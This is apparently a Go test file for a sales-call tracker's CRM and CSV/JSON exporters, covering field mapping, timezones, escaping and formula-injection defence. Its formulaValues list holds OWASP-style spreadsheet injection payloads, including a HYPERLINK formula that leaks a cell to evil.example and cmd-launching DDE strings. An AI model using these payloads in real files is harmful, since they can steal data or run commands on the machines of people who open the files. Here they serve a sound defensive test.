package export

import (
	"bytes"
	"encoding/json"
	"reflect"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"talktrack/model"
)

// call1Notes are the notes of call 1 in testdata/book.sql.
const call1Notes = "Asked about \"Pipeline Pro\", pricing, and rollout.\nVisit in Münster 🚀; CFO said: \"maybe, in Q3\""

func TestSalesforceRows(t *testing.T) {
	st := newBook(t)
	_, out := run(t, st, Options{Format: FormatSalesforce})
	recs := parseCSV(t, out)
	want := [][]string{
		{"Subject", "ActivityDate", "Status", "Description", "CallDisposition", "CallDurationInSeconds", "CallType", "TaskSubtype", "WhatId"},
		{"Call with Jana Novák: Connected", "2026-03-02", "Completed",
			call1Notes + "\n\nOffers: Analytics Plus — not now; Pipeline Pro — interested\nFollow-up: 2026-03-10",
			"Connected", "300", "Outbound", "Call", "001000000000001AAA"},
		{"Call: No answer", "2026-03-05", "Completed", "", "No answer", "0", "Outbound", "Call", "001000000000002"},
		{"Call: Left voicemail", "2026-03-09", "Completed", "Left a message about the renewal", "Left voicemail", "45", "Outbound", "Call", "001000000000001AAA"},
	}
	if !reflect.DeepEqual(recs, want) {
		t.Errorf("salesforce export:\n got %q\nwant %q", recs, want)
	}
}

func TestSalesforceActivityDateIsTheRepsDay(t *testing.T) {
	st := newBook(t)
	// Call 2 started at 23:30 UTC on 5 March: already 6 March in Berlin,
	// still 5 March in New York.
	for _, tc := range []struct {
		loc  *time.Location
		want string
	}{
		{time.FixedZone("CET", 3600), "2026-03-06"},
		{time.FixedZone("EST", -5*3600), "2026-03-05"},
		{nil, "2026-03-05"},
	} {
		_, out := run(t, st, Options{Format: FormatSalesforce, All: true, Location: tc.loc})
		if got := column(t, parseCSV(t, out), "ActivityDate")[1]; got != tc.want {
			t.Errorf("in %v: ActivityDate %q, want %q", tc.loc, got, tc.want)
		}
	}
}

func TestHubSpotRows(t *testing.T) {
	st := newBook(t)
	_, out := run(t, st, Options{Format: FormatHubSpot})
	recs := parseCSV(t, out)
	want := [][]string{
		{"hs_timestamp", "hs_call_title", "hs_call_body", "hs_call_direction", "hs_call_disposition", "hs_call_duration", "hs_call_status", "Company Record ID"},
		{"2026-03-02T14:05:00.000Z", "Call with Jana Novák: Connected",
			call1Notes + "\n\nOffers: Analytics Plus — not now; Pipeline Pro — interested\nFollow-up: 2026-03-10",
			"OUTBOUND", "Connected", "300000", "COMPLETED", "001000000000001AAA"},
		{"2026-03-05T23:30:00.000Z", "Call: No answer", "", "OUTBOUND", "No answer", "0", "COMPLETED", "001000000000002"},
		{"2026-03-09T09:00:00.000Z", "Call: Left voicemail", "Left a message about the renewal", "OUTBOUND", "Left voicemail", "45000", "COMPLETED", "001000000000001AAA"},
	}
	if !reflect.DeepEqual(recs, want) {
		t.Errorf("hubspot export:\n got %q\nwant %q", recs, want)
	}
}

func TestHubSpotDurationIsMilliseconds(t *testing.T) {
	for _, tc := range []struct {
		d    time.Duration
		want string
	}{
		{0, "0"},
		{time.Second, "1000"},
		{90 * time.Second, "90000"},
		{2*time.Hour + 3*time.Second, "7203000"},
	} {
		var buf bytes.Buffer
		calls := []Call{{ID: 1, AccountID: "1", StartedAt: exportedAt, Duration: tc.d, Outcome: model.OutcomeConnected}}
		if err := Write(&buf, FormatHubSpot, calls, nil); err != nil {
			t.Fatal(err)
		}
		if got := column(t, parseCSV(t, buf.String()), "hs_call_duration")[0]; got != tc.want {
			t.Errorf("duration %s: hs_call_duration %q, want %q", tc.d, got, tc.want)
		}
	}
}

func TestHubSpotDispositions(t *testing.T) {
	want := map[model.Outcome]string{
		model.OutcomeConnected:     "Connected",
		model.OutcomeLeftVoicemail: "Left voicemail",
		model.OutcomeLeftMessage:   "Left live message",
		model.OutcomeNoAnswer:      "No answer",
		model.OutcomeBusy:          "Busy",
		model.OutcomeWrongNumber:   "Wrong number",
	}
	var calls []Call
	for i, o := range model.Outcomes {
		calls = append(calls, Call{ID: int64(i + 1), AccountID: "1", StartedAt: exportedAt, Outcome: o})
	}
	if len(calls) != 6 {
		t.Fatalf("talktrack has %d outcomes; HubSpot's defaults are six", len(calls))
	}
	var buf bytes.Buffer
	if err := Write(&buf, FormatHubSpot, calls, nil); err != nil {
		t.Fatal(err)
	}
	got := column(t, parseCSV(t, buf.String()), "hs_call_disposition")
	for i, o := range model.Outcomes {
		if got[i] != want[o] {
			t.Errorf("outcome %s: hs_call_disposition %q, want %q", o, got[i], want[o])
		}
	}
}

func TestFullCSVRows(t *testing.T) {
	st := newBook(t)
	_, out := run(t, st, Options{Format: FormatCSV})
	recs := parseCSV(t, out)
	want := [][]string{
		{"id", "account_id", "account_name", "contact_id", "contact_name", "started_at", "duration_s", "outcome", "notes", "follow_up", "offers", "offer_codes"},
		{"1", "001000000000001AAA", "Müller Logistik GmbH", "c-1", "Jana Novák", "2026-03-02T14:05:00Z", "300", "connected",
			call1Notes, "2026-03-10", "Analytics Plus — not now; Pipeline Pro — interested", "ANA-PLUS=not_now;PIPE-PRO=interested"},
		{"2", "001000000000002", "Acme, Inc.", "", "", "2026-03-05T23:30:00Z", "0", "no_answer", "", "", "", ""},
		{"3", "001000000000001AAA", "Müller Logistik GmbH", "", "", "2026-03-09T09:00:00Z", "45", "left_voicemail",
			"Left a message about the renewal", "", "", ""},
	}
	if !reflect.DeepEqual(recs, want) {
		t.Errorf("csv export:\n got %q\nwant %q", recs, want)
	}
}

func TestJSONRows(t *testing.T) {
	st := newBook(t)
	_, out := run(t, st, Options{Format: FormatJSON})
	var got []callJSON
	if err := json.Unmarshal([]byte(out), &got); err != nil {
		t.Fatalf("not a JSON array: %v\n%s", err, out)
	}
	if len(got) != 3 {
		t.Fatalf("got %d calls, want 3", len(got))
	}
	want0 := callJSON{
		ID: 1, AccountID: "001000000000001AAA", AccountName: "Müller Logistik GmbH", ContactID: "c-1", ContactName: "Jana Novák",
		StartedAt: "2026-03-02T14:05:00Z", DurationS: 300, Outcome: "connected", Notes: call1Notes, FollowUp: "2026-03-10",
		Offers: []offerJSON{
			{ProductID: "ANA-PLUS", ProductName: "Analytics Plus", Response: "not_now"},
			{ProductID: "PIPE-PRO", ProductName: "Pipeline Pro", Response: "interested"},
		},
	}
	if !reflect.DeepEqual(got[0], want0) {
		t.Errorf("call 1:\n got %+v\nwant %+v", got[0], want0)
	}
	if got[1].ID != 2 || got[1].Offers == nil || len(got[1].Offers) != 0 {
		t.Errorf("call 2 should have an empty offers array, got %+v", got[1])
	}
	// The fixed names of the shape, as a script would read them.
	var raw []map[string]any
	if err := json.Unmarshal([]byte(out), &raw); err != nil {
		t.Fatal(err)
	}
	for _, k := range []string{"id", "account_id", "account_name", "contact_id", "contact_name", "started_at", "duration_s", "outcome", "notes", "follow_up", "offers"} {
		if _, ok := raw[0][k]; !ok {
			t.Errorf("JSON call lacks %q: %v", k, raw[0])
		}
	}
}

func TestJSONOfNoCallsIsAnEmptyArray(t *testing.T) {
	var buf bytes.Buffer
	if err := Write(&buf, FormatJSON, nil, nil); err != nil {
		t.Fatal(err)
	}
	if got := strings.TrimSpace(buf.String()); got != "[]" {
		t.Errorf("got %q, want []", got)
	}
}

// trickyNotes are notes a rep really types, each of which breaks a naive
// CSV writer or reader.
var trickyNotes = []string{
	"budget, timing, authority",
	`She said "not before Q3"`,
	`"quoted at both ends"`,
	"line one\nline two\n\nafter a blank line",
	"Termin in Münster, Straße 5",
	"🚀 great call 👍",
	" leading and trailing spaces ",
	"tab\tinside",
	"=SUM(A1:A3) looks like a formula",
	"ends with a backslash \\",
	"中文笔记, 日本語のメモ",
	"",
}

func TestTrickyNotesRoundTripThroughCSV(t *testing.T) {
	var calls []Call
	for i, n := range trickyNotes {
		calls = append(calls, Call{ID: int64(i + 1), AccountID: "001000000000001AAA", AccountName: "Müller, \"Logistik\"",
			StartedAt: exportedAt, Outcome: model.OutcomeConnected, Notes: n})
	}
	for _, tc := range []struct {
		format Format
		column string
		// want is what the column must hold for notes n.
		want func(n string) string
	}{
		{FormatCSV, "notes", func(n string) string { return defuseFormula(n) }},
		// The CRM bodies drop trailing blanks, which no CRM shows anyway.
		{FormatSalesforce, "Description", func(n string) string { return defuseFormula(strings.TrimRight(n, " ")) }},
		{FormatHubSpot, "hs_call_body", func(n string) string { return defuseFormula(strings.TrimRight(n, " ")) }},
	} {
		var buf bytes.Buffer
		if err := Write(&buf, tc.format, calls, nil); err != nil {
			t.Fatal(err)
		}
		if !utf8.Valid(buf.Bytes()) {
			t.Errorf("%s: output is not valid UTF-8", tc.format)
		}
		if bytes.HasPrefix(buf.Bytes(), []byte("\xEF\xBB\xBF")) {
			t.Errorf("%s: output starts with a byte order mark", tc.format)
		}
		recs := parseCSV(t, buf.String())
		if len(recs) != len(trickyNotes)+1 {
			t.Fatalf("%s: %d records, want %d", tc.format, len(recs), len(trickyNotes)+1)
		}
		for i, got := range column(t, recs, tc.column) {
			if want := tc.want(trickyNotes[i]); got != want {
				t.Errorf("%s: notes %q came back as %q", tc.format, want, got)
			}
		}
		if tc.format == FormatCSV {
			if got := column(t, recs, "account_name")[0]; got != `Müller, "Logistik"` {
				t.Errorf("account name came back as %q", got)
			}
		}
	}
}

func TestTrickyNotesRoundTripThroughJSON(t *testing.T) {
	var calls []Call
	for i, n := range trickyNotes {
		calls = append(calls, Call{ID: int64(i + 1), AccountID: "a", StartedAt: exportedAt, Outcome: model.OutcomeBusy, Notes: n + " <b>&</b>"})
	}
	var buf bytes.Buffer
	if err := Write(&buf, FormatJSON, calls, nil); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(buf.String(), `\u003c`) {
		t.Errorf("JSON escapes < as for HTML; notes should read as typed")
	}
	var got []callJSON
	if err := json.Unmarshal(buf.Bytes(), &got); err != nil {
		t.Fatal(err)
	}
	for i, c := range got {
		if want := trickyNotes[i] + " <b>&</b>"; c.Notes != want {
			t.Errorf("notes %q came back as %q", want, c.Notes)
		}
	}
}

func TestLinesEndInLF(t *testing.T) {
	var buf bytes.Buffer
	calls := []Call{{ID: 1, AccountID: "1", StartedAt: exportedAt, Outcome: model.OutcomeBusy, Notes: "a\nb"}}
	if err := Write(&buf, FormatSalesforce, calls, nil); err != nil {
		t.Fatal(err)
	}
	if strings.Contains(buf.String(), "\r") {
		t.Errorf("output has carriage returns: %q", buf.String())
	}
	if !strings.HasSuffix(buf.String(), "\n") {
		t.Errorf("output does not end with a line feed: %q", buf.String())
	}
}

func TestCallBody(t *testing.T) {
	offers := []Offer{{ProductID: "P", ProductName: "Pipeline Pro", Response: model.ResponseAccepted}}
	for _, tc := range []struct {
		name string
		call Call
		want string
	}{
		{"nothing", Call{}, ""},
		{"notes only", Call{Notes: "hello\n"}, "hello"},
		{"offers only", Call{Offers: offers}, "Offers: Pipeline Pro — accepted"},
		{"follow-up only", Call{FollowUp: "2026-04-01"}, "Follow-up: 2026-04-01"},
		{"everything", Call{Notes: "hi", ContactName: "Ana", Offers: offers, FollowUp: "2026-04-01"},
			"hi\n\nOffers: Pipeline Pro — accepted\nFollow-up: 2026-04-01"},
	} {
		if got := callBody(tc.call); got != tc.want {
			t.Errorf("%s: got %q, want %q", tc.name, got, tc.want)
		}
	}
}

// formulaValues start the way a spreadsheet formula does (OWASP's list).
var formulaValues = []string{
	`=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
	"+1+cmd|' /C calc'!A0",
	"-2+3",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
}

// TestFormulaInjectionIsNeutralised: in every CSV format no value that
// came from data starts like a formula, each is the value behind a single
// quote, and the JSON export keeps every value exactly.
func TestFormulaInjectionIsNeutralised(t *testing.T) {
	var calls []Call
	for i, v := range formulaValues {
		calls = append(calls, Call{ID: int64(i + 1), AccountID: v, AccountName: v, ContactID: v, ContactName: v,
			StartedAt: exportedAt, Outcome: model.OutcomeConnected, Notes: v, FollowUp: v,
			Offers: []Offer{{ProductID: v, ProductName: v, Response: model.ResponseInterested}}})
	}
	for _, f := range []Format{FormatSalesforce, FormatHubSpot, FormatCSV} {
		var buf bytes.Buffer
		if err := Write(&buf, f, calls, nil); err != nil {
			t.Fatal(err)
		}
		recs := parseCSV(t, buf.String())
		for _, rec := range recs[1:] {
			for j, cell := range rec {
				if cell != "" && strings.ContainsRune(formulaStarts, rune(cell[0])) {
					t.Errorf("%s: column %s holds %q, which a spreadsheet runs as a formula", f, recs[0][j], cell)
				}
			}
		}
		notes := map[Format]string{FormatSalesforce: "Description", FormatHubSpot: "hs_call_body", FormatCSV: "notes"}[f]
		if got := column(t, recs, notes)[0]; !strings.HasPrefix(got, "'=HYPERLINK(") {
			t.Errorf("%s: notes came out as %q, want the formula behind a single quote", f, got)
		}
		if f == FormatCSV {
			for i, got := range column(t, recs, "account_name") {
				if want := "'" + formulaValues[i]; got != want {
					t.Errorf("csv: account name %q, want %q", got, want)
				}
			}
		}
	}
	var buf bytes.Buffer
	if err := Write(&buf, FormatJSON, calls, nil); err != nil {
		t.Fatal(err)
	}
	var got []callJSON
	if err := json.Unmarshal(buf.Bytes(), &got); err != nil {
		t.Fatal(err)
	}
	for i, c := range got {
		v := formulaValues[i]
		if c.Notes != v || c.AccountName != v || c.AccountID != v || c.Offers[0].ProductName != v {
			t.Errorf("json changed %q: %+v", v, c)
		}
	}
}
